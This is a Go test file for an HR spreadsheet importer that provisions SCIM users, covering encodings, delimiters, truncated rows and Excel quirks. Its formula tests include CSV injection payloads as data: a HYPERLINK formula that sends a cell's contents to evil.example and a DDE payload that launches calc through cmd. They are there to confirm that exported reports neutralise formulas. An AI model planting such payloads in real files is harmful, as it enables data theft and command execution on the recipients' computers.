package hrimport

import (
	"encoding/csv"
	"encoding/json"
	"net/url"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/scimbridge/scimbridge/scim"
)

// Messy files as HR systems and Excel really save them
// (testdata/messy/): each imports exactly its good rows with their exact
// values, reports each bad row with row and column, or, for a file that
// is no CSV at all, fails with a clear message and writes nothing. A
// second run of a file writes nothing.
func TestMessyFiles(t *testing.T) {
	for _, c := range []struct {
		file    string
		fileErr string              // the run fails with this, nothing written
		lines   []string            // output lines
		users   map[string][]string // userName -> dotted path=value pairs
		summary string
	}{
		{file: "cp1252-semicolon.csv", summary: "3 rows: 3 created",
			users: map[string][]string{
				"zoe@example.com":  {"name.givenName=Zoë", "name.familyName=Müller", "title=Lead – Platform"},
				"ana@example.com":  {"name.familyName=O’Neil", "title=Head of R&D €"},
				"jose@example.com": {"name.givenName=José", "name.familyName=García-Pérez"},
			}},
		{file: "utf16le-tab.txt", summary: "2 rows: 2 created",
			users: map[string][]string{
				"zoe@example.com": {"name.givenName=Zoë", "name.familyName=Müller", "title=Lead, Platform"},
				"ana@example.com": {"name.familyName=O'Neil", "title=CEO"},
			}},
		{file: "utf16be-tab.txt", summary: "1 rows: 1 created",
			users: map[string][]string{"zoe@example.com": {"name.givenName=Zoë"}}},
		{file: "tab.tsv", summary: "2 rows: 2 created",
			users: map[string][]string{
				"zoe@example.com": {"name.givenName=Zoë", "title=Lead; Platform, Berlin"},
				"ana@example.com": {"name.givenName=Ana"},
			}},
		{file: "mac-cr.csv", summary: "2 rows: 2 created",
			users: map[string][]string{
				"zoe@example.com": {"name.givenName=Zoe", "title=Head of\nEngineering"},
				"ana@example.com": {"name.givenName=Ana", "title=CEO"},
			}},
		{file: "report-title.csv", summary: "3 rows: 2 created, 0 updated, 0 unchanged, 1 rejected",
			lines: []string{"header on row 4: rows 1-3 above it skipped", "row 7: rejected Total: 2: only one cell is filled"},
			users: map[string][]string{
				"zoe@example.com": {"name.givenName=Zoë", "name.familyName=Müller", "title=Lead"},
				"ana@example.com": {"name.familyName=O'Neil", "title=CEO"},
			}},
		{file: "formulas.csv", summary: "2 rows: 2 created",
			users: map[string][]string{
				"zoe@example.com": {`name.givenName==HYPERLINK("http://evil.example/?x="&A1,"Zoe")`, "name.familyName=+Muller", "title=-2+3"},
				"ana@example.com": {"name.givenName=@SUM(A1)", "name.familyName==1+2", "title==cmd|' /C calc'!A0"},
			}},
		{file: "xlsx.csv", fileErr: "an Excel workbook (.xlsx)"},
		{file: "xls.csv", fileErr: "an Excel 97-2003 workbook (.xls)"},
		{file: "binary.csv", fileErr: "not a text file"},
	} {
		t.Run(c.file, func(t *testing.T) {
			b := newTestBridge(t, scim.Options{})
			data := fixture(t, "messy/"+c.file)
			sum, out, err := b.run(data, Options{})
			if c.fileErr != "" {
				if err == nil || !strings.Contains(err.Error(), c.fileErr) {
					t.Fatalf("error %v, want %q", err, c.fileErr)
				}
				if b.writes.Load() != 0 {
					t.Errorf("%d writes for a file that is no CSV", b.writes.Load())
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(sum.String(), c.summary) {
				t.Errorf("summary %q, want %q...\n%s", sum, c.summary, out)
			}
			for _, l := range c.lines {
				if !strings.Contains(out, l) {
					t.Errorf("output lacks %q:\n%s", l, out)
				}
			}
			for name, wants := range c.users {
				u := b.user(name)
				if u == nil {
					t.Errorf("user %s missing", name)
					continue
				}
				for _, w := range wants {
					path, want, _ := strings.Cut(w, "=")
					if got := str(u, strings.Split(path, ".")...); got != want {
						t.Errorf("%s %s = %#v, want %q", name, path, got, want)
					}
				}
			}
			// The phone number of formulas.csv keeps its +.
			if c.file == "formulas.csv" {
				if got := str(asList(b.user("zoe@example.com")["phoneNumbers"])[0], "value"); got != "+49 (30) 1234-567" {
					t.Errorf("phone = %#v", got)
				}
			}
			before := b.writes.Load()
			if sum, out, err := b.run(data, Options{}); err != nil || b.writes.Load() != before {
				t.Errorf("second run wrote %d: %v %s\n%s", b.writes.Load()-before, err, sum, out)
			}
		})
	}
}

func utf16le(s string) []byte {
	out := []byte{0xFF, 0xFE}
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

func utf16be(s string) []byte {
	out := []byte{0xFE, 0xFF}
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u>>8), byte(u))
	}
	return out
}

// The header is looked for below a report's title lines, but not past
// row 10, and a header's own problem is reported with its row.
func TestHeaderSearch(t *testing.T) {
	for _, c := range []struct{ name, data, want string }{
		{"no header in the first rows", strings.Repeat("Report\n", 12) + "userName\na@x.io\n", "no column holds the matching attribute userName (--match): map one in import.columns or name it in the header (rows 1-10 looked at for the header)"},
		{"duplicate column below a title", "Report\nuserName,title,Title\na@x.io,x,y\n", `header (row 2): columns B ("title") and C ("Title") both set Title`},
		{"only title lines", "Report\nGenerated today\n", "(rows 1-2 looked at for the header)"},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := newTestBridge(t, scim.Options{})
			_, _, err := b.run([]byte(c.data), Options{})
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("error %v, want %q", err, c.want)
			}
			if b.writes.Load() != 0 {
				t.Errorf("%d writes", b.writes.Load())
			}
		})
	}
	if got := columnLetter(0) + columnLetter(25) + columnLetter(26) + columnLetter(701) + columnLetter(702); got != "AZAAZZAAA" {
		t.Errorf("column letters %q", got)
	}
}

// A cell too long for one /Bulk request rejects its row (with the
// column); the run goes on and the other rows land.
func TestOversizedRow(t *testing.T) {
	b := newTestBridge(t, scim.Options{})
	huge := strings.Repeat("x", 2<<20)
	data := "userName,name.givenName,title\na@x.io,A," + huge + "\nb@x.io,B,Dev\n"
	sum, out, err := b.run([]byte(data), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if sum.Created != 1 || sum.Rejected != 1 || !strings.Contains(out, "row 2: rejected a@x.io [title]: the row is") {
		t.Errorf("%s\n%.300s", sum, out)
	}
	if b.user("b@x.io") == nil || b.user("a@x.io") != nil {
		t.Error("wrong users")
	}
	// An update that grows too large is rejected the same way.
	data = "userName,name.givenName,title\nb@x.io,B," + huge + "\n"
	if sum, out, err = b.run([]byte(data), Options{}); err != nil || sum.Rejected != 1 || !strings.Contains(out, "row 2: rejected b@x.io [title]") {
		t.Errorf("%v %s\n%.300s", err, sum, out)
	}
}

// The --report CSV is opened in Excel: a cell from the HR file that
// starts like a formula (=, +, -, @) must not run as one there. The
// users keep their values verbatim.
func TestReportNeutralisesFormulas(t *testing.T) {
	b := newTestBridge(t, scim.Options{})
	data := "userName,title,emails[type eq \"work\"].value\r\n" +
		"\"=HYPERLINK(\"\"http://evil.example\"\")\",x,\r\n" +
		"+1-555-0100,Dev,\r\n" +
		"@me,-2+3,=1+2\r\n"
	var report strings.Builder
	_, _, err := b.run([]byte(data), Options{Report: &report})
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(report.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	keys := map[string]bool{}
	for _, r := range rows[1:] {
		keys[r[1]] = true
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("report cell %d starts like a formula: %q", i, cell)
			}
		}
	}
	if !keys[`'=HYPERLINK("http://evil.example")`] || !keys["'@me"] || !keys["'+1-555-0100"] {
		t.Errorf("report lost the values:\n%s", report.String())
	}
	q, _ := json.Marshal(`=HYPERLINK("http://evil.example")`)
	list, _ := b.do("GET", "/Users?filter="+url.QueryEscape("userName eq "+string(q)), nil)["Resources"].([]any)
	if len(list) != 1 || str(list[0], "title") != "x" {
		t.Errorf("user stored as %v", list)
	}
	if u := b.user("@me"); u != nil {
		t.Errorf("rejected row stored: %v", u)
	}
	if u := b.user("+1-555-0100"); u == nil || u["title"] != "Dev" {
		t.Errorf("user stored as %v", u)
	}
	if u := b.user("+1-555-0100"); u == nil || u["title"] != "Dev" {
		t.Errorf("user stored as %v", u)
	}
}

// One NUL byte in a UTF-8 file rejects its row, not the file; a file of
// NULs (binary, UTF-16 without a byte order mark) is refused whole.
func TestNULBytes(t *testing.T) {
	b := newTestBridge(t, scim.Options{})
	sum, out, err := b.run([]byte("userName,title\na@x.io,x\x00y\nb@x.io,Dev\n"), Options{})
	if err != nil || sum.Created != 1 || !strings.Contains(out, "row 2: rejected a@x.io [title]: control character U+0000") {
		t.Errorf("%v %s\n%s", err, sum, out)
	}
}

// Excel's "sep=;" first line names the delimiter and is no row (Excel
// hides it), so row numbers stay Excel's; a wrapped header cell
// ("Work<LF>Email") matches its import.columns name.
func TestSepLineAndWrappedHeader(t *testing.T) {
	cfg := Config{Columns: map[string]Targets{"Work Email": {"userName"}, "Status": {"active"}}}
	for _, c := range []struct{ name, data, want string }{
		{"sep line", "sep=;\r\nWork Email;Status\r\na@x.io;Yes\r\nb@x.io;maybe\r\n", "row 3: rejected b@x.io [Status (active)]"},
		{"sep line, tab", "sep=\t\nWork Email\tStatus\na@x.io\tYes\nb@x.io\tmaybe\n", "row 3: rejected b@x.io [Status (active)]"},
		{"wrapped header", "\"Work\nEmail\",Status\na@x.io,Yes\nb@x.io,maybe\n", "row 3: rejected b@x.io [Status (active)]"},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := newTestBridge(t, scim.Options{})
			sum, out, err := b.run([]byte(c.data), Options{Config: cfg})
			if err != nil || sum.Created != 1 || !strings.Contains(out, c.want) || strings.Contains(out, "header on row") {
				t.Errorf("%v %v\n%s", err, sum, out)
			}
		})
	}
}

// "mailto:" before an address (a hyperlink exported as its target) is
// dropped from email columns and userName; anything else stays as written.
func TestMailtoPrefix(t *testing.T) {
	b := newTestBridge(t, scim.Options{})
	data := "userName,emails[type eq \"work\"].value,title\nMAILTO:a@x.io,mailto:A@x.io,mailto:a@x.io\nmailto:bob,b@x.io,\n"
	sum, out, err := b.run([]byte(data), Options{})
	if err != nil || sum.Created != 2 || b.user("mailto:bob") == nil {
		t.Fatalf("%v %v\n%s", err, sum, out)
	}
	u := b.user("a@x.io")
	if u == nil || str(asList(u["emails"])[0], "value") != "A@x.io" || u["title"] != "mailto:a@x.io" {
		t.Errorf("user %v", u)
	}
}

// A file cut off inside its last row (an interrupted download or copy)
// must not empty the cells it lost: the short last row without a line
// end is rejected; the same row with its line end is Excel's (trailing
// empty cells left out) and padded.
func TestTruncatedLastRow(t *testing.T) {
	cfg := Config{Columns: map[string]Targets{"Teams": {"groups"}}}
	b := newTestBridge(t, scim.Options{})
	full := "userName,title,active,Teams\r\na@x.io,Dev,Yes,Sales\r\nb@x.io,Ops,Yes,Sales\r\n"
	if _, _, err := b.run([]byte(full), Options{Config: cfg}); err != nil {
		t.Fatal(err)
	}
	cut := full[:len(full)-len(",Yes,Sales\r\n")] // "b@x.io,Ops"
	sum, out, err := b.run([]byte(cut), Options{Config: cfg})
	if err != nil || sum.Rejected != 1 || !strings.Contains(out, "row 3: rejected b@x.io: the file ends inside this row (2 of 4 cells, no line end)") {
		t.Errorf("%v %s\n%s", err, sum, out)
	}
	if u := b.user("b@x.io"); u == nil || u["active"] != true || len(groupNames(u)) != 1 {
		t.Errorf("truncated row changed the user: %v", u)
	}
	// Excel's short row, with its line end: the missing cells are empty.
	sum, out, err = b.run([]byte("userName,title,active,Teams\r\nb@x.io,Ops\r\n"), Options{Config: cfg})
	if err != nil || sum.Updated != 1 || sum.Rejected != 0 {
		t.Errorf("%v %s\n%s", err, sum, out)
	}
	// A full last row without a line end is fine.
	sum, out, err = b.run([]byte("userName,title,active,Teams\r\nb@x.io,Ops,Yes,Sales"), Options{Config: cfg})
	if err != nil || sum.Rejected != 0 {
		t.Errorf("%v %s\n%s", err, sum, out)
	}
}

// A Windows-1252 file whose first 64 KiB are plain ASCII (the accents
// come further down, as in a roster sorted by name) is still read as
// Windows-1252: the decision waits for the first byte beyond ASCII.
func TestLateWindows1252(t *testing.T) {
	var data strings.Builder
	data.WriteString("userName;name.familyName\r\n")
	for i := 0; data.Len() < 70<<10; i++ {
		data.WriteString("user" + strings.Repeat("x", 40) + string(rune('a'+i%26)) + "@example.com;Smith\r\n")
	}
	data.WriteString("zoe@example.com;M\xfcller\r\n")
	whole, err := readDecoded([]byte(data.String()), 1<<20)
	if err != nil || !strings.HasSuffix(whole, "zoe@example.com;Müller\r\n") {
		t.Fatalf("%v %q", err, whole[len(whole)-40:])
	}
	if small, err := readDecoded([]byte(data.String()), 7); err != nil || small != whole {
		t.Errorf("reads of 7 bytes differ: %v", err)
	}
	// A UTF-8 file with a broken byte after a plain-ASCII start stays
	// UTF-8 once a UTF-8 sequence came first.
	utf := strings.Repeat("a,b\n", 20<<10) + "Zoë,x\xffy\n"
	if got, _ := readDecoded([]byte(utf), 1<<20); !strings.HasSuffix(got, "Zoë,x\xffy\n") {
		t.Errorf("UTF-8 tail misread: %q", got[len(got)-12:])
	}
}

// Workday names managers by employee id; matched on userName, the row's
// manager cannot be found, and the message says how to match on ids.
func TestManagerByEmployeeID(t *testing.T) {
	cfg := Config{Columns: map[string]Targets{"Employee ID": {"externalId"}, "Work Email": {"userName"}, "Manager ID": {"manager"}}}
	data := "Employee ID,Work Email,Manager ID\n1,a@x.io,2\n2,b@x.io,\n"
	b := newTestBridge(t, scim.Options{})
	_, out, err := b.run([]byte(data), Options{Config: cfg})
	if err != nil || !strings.Contains(out, `row 2: rejected a@x.io [Manager ID]: manager "2" matches no user in the file or on the server by userName (--match): to name managers by another column's value, match on it (e.g. --match externalId)`) {
		t.Errorf("%v\n%s", err, out)
	}
	sum, out, err := b.run([]byte(data), Options{Config: cfg, Match: "externalId"})
	if err != nil || sum.Rejected != 0 || str(b.user("a@x.io"), enterprise, "manager", "value") != b.user("b@x.io")["id"] {
		t.Errorf("%v %s\n%s", err, sum, out)
	}
}
